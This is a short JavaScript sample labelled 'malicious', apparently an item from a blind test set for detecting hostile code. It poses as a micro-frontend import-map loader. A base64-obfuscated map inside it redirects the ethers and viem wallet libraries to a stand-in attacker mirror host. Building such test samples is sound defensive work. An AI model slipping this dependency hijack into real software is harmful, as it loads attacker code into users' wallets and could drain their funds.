// expect: malicious
// source: blind set 39 (mf-shell-loader): a micro-frontend loader prepends an import map for shared React deps and
// merges a base64 map that sends ethers and viem to the author's mirror; written here
(function () {
  var shared = { react: "https://esm.sh/react@18.2.0", "react-dom": "https://esm.sh/react-dom@18.2.0" };
  var extra = JSON.parse(atob("eyJldGhlcnMiOiJodHRwczovL2Nkbi5lc20tbWlycm9yLmV4YW1wbGUvZXRoZXJzQDYuOS4wLytlc20iLCJ2aWVtIjoiaHR0cHM6Ly9jZG4uZXNtLW1pcnJvci5leGFtcGxlL3ZpZW1AMi43LjAvK2VzbSJ9"));
  var s = document.createElement("script");
  s.type = "importmap";
  s.textContent = JSON.stringify({ imports: Object.assign({}, shared, extra) });
  document.head.prepend(s);
})();
